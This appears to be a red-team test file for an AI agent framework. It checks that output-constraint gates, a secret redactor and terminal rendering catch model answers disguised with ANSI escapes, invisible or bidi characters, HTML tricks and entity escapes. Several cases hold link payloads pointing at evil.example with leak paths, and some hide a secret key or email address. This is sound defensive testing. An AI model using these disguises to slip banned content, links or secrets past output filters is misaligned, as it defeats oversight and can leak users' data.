import assert from 'node:assert/strict'
import { stripVTControlCharacters } from 'node:util'
import type { JsonObject } from '../../../src/document/json.ts'
import { type Attack, type Category, type Control, numbered } from '../attack.ts'
import { ModelServer, runAgent, shared, shownOnTerminal, stage, streaming } from '../world.ts'

const models = shared(() => new ModelServer())

const PHRASE = 'Never mention "Project Falcon".'
const LINKS = 'Answers must not contain links.'
const SENTENCES = 'Never write more than three sentences.'
const WORDS = 'Answers must be at most 5 words.'

/** Runs an agent at strict whose model gives this answer. */
function answering(text: string, agent: JsonObject, holds: (code: string | undefined, out: string) => void) {
  return async (t: Parameters<Attack['try']>[0]) => {
    const place = stage(t, { agent })
    const model = await models()
    model.reset(() => text)
    const { value, out } = await runAgent(place, model)
    holds(value.error?.code, out)
  }
}

function withheld(attack: string, text: string, constraint = PHRASE): Omit<Attack, 'id'> {
  return {
    attack,
    by: 'the answer of a model at strict',
    holds: 'the answer is withheld',
    try: answering(
      text,
      { constraints: [constraint], compliance: { safety_level: 'strict' } },
      (code, out) => {
        assert.equal(code, 'CONSTRAINT_BREACHED', out)
      },
    ),
  }
}

function rejected(attack: string, text: string): Omit<Attack, 'id'> {
  return {
    attack,
    by: 'the answer of a model, with pii_handling reject at strict',
    holds: 'the answer is refused',
    try: answering(text, { compliance: { safety_level: 'strict', pii_handling: 'reject' } }, (code, out) => {
      assert.equal(code, 'PII_REJECTED', out)
    }),
  }
}

function passing(passes: string, text: string, constraint: string): Control {
  return {
    passes,
    try: answering(
      text,
      { constraints: [constraint], compliance: { safety_level: 'strict' } },
      (code, out) => {
        assert.equal(code, undefined, out)
      },
    ),
  }
}

const KEY = 'zebra-quartz-71-lantern-mosaic'

/** The provider streams the key in pieces of three characters to a terminal. */
function streamed(attack: string, text: string): Omit<Attack, 'id'> {
  return {
    attack,
    by: 'an answer that is streamed to a terminal',
    holds: 'no part of the key is shown, and the answer is shown once',
    try: async (t) => {
      const provider = await streaming(t, `Your key is ${text}, is it not?`)
      const place = stage(t, { env: { WAYBILL_KEY_CUSTOM: KEY } })
      const { code, out, err } = await shownOnTerminal(place, provider)
      assert.equal(code, 0, err)
      assert.equal(out.split('is it not?').length, 2, out)
      const shown = stripVTControlCharacters(out + err)
      for (const part of [KEY, 'lantern-mosaic', '[0m', '[1m']) assert.ok(!shown.includes(part), out)
    },
  }
}

export const disguise: Category = {
  name: 'Answers in disguise',
  enforced: 'the readings of a text, which the gates, the finder, the redactor and the terminal share',
  file: 'test/redteam/disguise.test.ts',
  attacks: numbered('disguise', [
    withheld('puts a colour between two letters', 'It is Proj\u001b[0mect Falcon.'),
    withheld('puts a one-character CSI between two letters', 'It is Proj\u009b31mect Falcon.'),
    withheld('puts a window title between two letters', 'It is Proj\u001b]0;x\u0007ect Falcon.'),
    withheld('puts a blank letter between two letters', 'It is Proj\u3164ect Falcon.'),
    withheld('puts a variation selector between two letters', 'It is Proj\ufe0fect Falcon.'),
    withheld('puts a null character between two letters', 'It is Proj\u0000ect Falcon.'),
    withheld('moves the cursor instead of a space', 'It is Project\u001b[1CFalcon.'),
    withheld(
      'overstrikes each letter',
      [...'Project Falcon'].map((letter) => `${letter}\b${letter}`).join(''),
    ),
    withheld('overwrites the line', 'xxxxxxx Falcon\rProject'),
    withheld('writes the phrase into a window title', 'Done.\u001b]0;Project Falcon\u0007'),
    withheld('uses an HTML entity for an invisible character', 'It is Proj&#8203;ect Falcon.'),
    withheld('uses an HTML comment', 'It is Proj<!-- -->ect Falcon.'),
    withheld('uses a backslash of Markdown', 'It is Pro\\ject Falcon.'),
    withheld('underlines each letter by a mark', 'It is P\u0332r\u0332oject Falcon.'),
    withheld('names a picture without a scheme', '![x](//evil.example/leak?d=1)', LINKS),
    withheld('names a scheme without slashes', 'Go to https:evil.example', LINKS),
    withheld('hides the scheme with an invisible character', 'Go to h\u200bttps://evil.example', LINKS),
    withheld('uses an HTML element', '<img src=//evil.example/x>', LINKS),
    withheld('names a host and a path', 'Go to evil.example/leak', LINKS),
    withheld('uses a hyperlink of the terminal', '\u001b]8;;https://evil.example\u0007click', LINKS),
    withheld('writes the phrase from right to left', '\u202enoclaF tcejorP\u202c'),
    withheld('turns the phrase by an isolate', '\u2067\u2066Falcon\u2069 \u2066Project\u2069\u2069'),
    withheld('turns the phrase by an element', '<bdo dir=rtl>noclaF tcejorP</bdo>'),
    withheld('turns the phrase by an entity', '&#8238;noclaF tcejorP'),
    withheld('puts a template between two letters', 'Pro<template>xx</template>ject Falcon'),
    withheld('puts a hidden element between two letters', 'Pro<i hidden>xx</i>ject Falcon'),
    withheld(
      'puts an element without size between two letters',
      'Pro<i style="font-size:0">xx</i>ject Falcon',
    ),
    withheld(
      'puts text for viewers without scripts between two letters',
      'Pro<noscript>xx</noscript>ject Falcon',
    ),
    withheld('puts a bracket into an attribute between two letters', 'Pro<b title=">">j</b>ect Falcon'),
    withheld('writes one word as the text of a picture', 'Project <img alt=Falcon src=x>'),
    withheld('writes the words in two blocks', '<section>Project</section><section>Falcon</section>'),
    withheld('escapes a letter twice', 'Pro&amp;#106;ect Falcon'),
    withheld('escapes a letter in octal', 'Pro\\152ect Falcon'),
    withheld('escapes a letter as CSS does', 'Pro\\6A ect Falcon'),
    withheld('joins the words', 'It is ProjectFalcon.'),
    withheld('quotes each sentence', '"One a." "Two b." "Three c." "Four d."', SENTENCES),
    withheld('puts a note behind each sentence', 'One a.[1] Two b.[2] Three c.[3] Four d.[4]', SENTENCES),
    withheld('puts no space between sentences', 'One a.Two b.Three c.Four d.', SENTENCES),
    withheld('ends sentences as Chinese does', 'One。Two。Three。Four。', SENTENCES),
    withheld('writes sentences as a list', '- One a\n- Two b\n- Three c\n- Four d', SENTENCES),
    withheld('ends sentences with an ellipsis', 'One a… Two b… Three c… Four d…', SENTENCES),
    withheld('joins words with entities', 'one&nbsp;two&nbsp;three&nbsp;four&nbsp;five&nbsp;six', WORDS),
    withheld('joins words with slashes', 'one/two/three/four/five/six', WORDS),
    withheld(
      'puts a bracket into an attribute of a picture',
      '<img alt=">" src="/&Tab;/evil.example/leak?d=1">',
      LINKS,
    ),
    withheld(
      'puts a tab into the target of a parameter',
      '<param name=movie value="/&Tab;/evil.example/x">',
      LINKS,
    ),
    withheld('names a picture in a style', '<p style="background:url(/&Tab;/evil.example/x)">', LINKS),
    withheld('names a picture in a set', '<source srcset="x 1x">', LINKS),
    withheld('names a target between line breaks', '<a\nhref\n=\n/x>y</a>', LINKS),
    withheld('breaks a line with an element', 'one<br>two', 'Answers must be one line.'),
    withheld('separates two lines by a carriage return', 'one\rtwo', 'Answers must be one line.'),
    streamed('puts a style into the key', `${KEY.slice(0, 8)}\u001b[1m${KEY.slice(8)}`),
    streamed('puts invisible characters into the key', [...KEY].join('\u200b')),
    streamed(
      'puts a control string with a space into the key',
      `${KEY.slice(0, 8)}\u001b]0;a b\u0007${KEY.slice(8)}`,
    ),
    streamed(
      'uses wide letters',
      [...KEY].map((one) => String.fromCharCode(one.charCodeAt(0) + 0xfee0)).join(''),
    ),
    rejected('puts a style into an address', 'It is ada.lovelace@\u001b[1mmailboxes.org'),
    rejected('puts a control string into an address', 'It is ada.lovelace@mail\u001bPq\u001b\\boxes.org'),
    rejected('puts a combining joiner into an address', 'It is ada.lovelace@mail\u034fboxes.org'),
    rejected('overstrikes a part of an address', 'It is ada.lovelaceX\b@mailboxes.org'),
  ]),
  controls: [
    passing(
      'three sentences with a price, an abbreviation and a broken line',
      'It costs 1.50 EUR. Dr. Ada\nsays so.',
      SENTENCES,
    ),
    passing('markup without the phrase or a target', '<b>Project</b> <i class="x">Eagle</i>', PHRASE),
    passing('markup without a target', '<b>Project</b> <i class="x">Eagle</i>', LINKS),
    passing('a coloured answer without the phrase', 'It is \u001b[1mProject\u001b[0m Eagle.', PHRASE),
    passing('emoji and letters of other scripts', 'Fertig 👨‍👩‍👧 ⚠️ می‌خواهم é', PHRASE),
    passing('file names, times and numbers', 'See src/index.ts, at 10:30, e.g. 1.5. Note: a::b', LINKS),
  ],
}
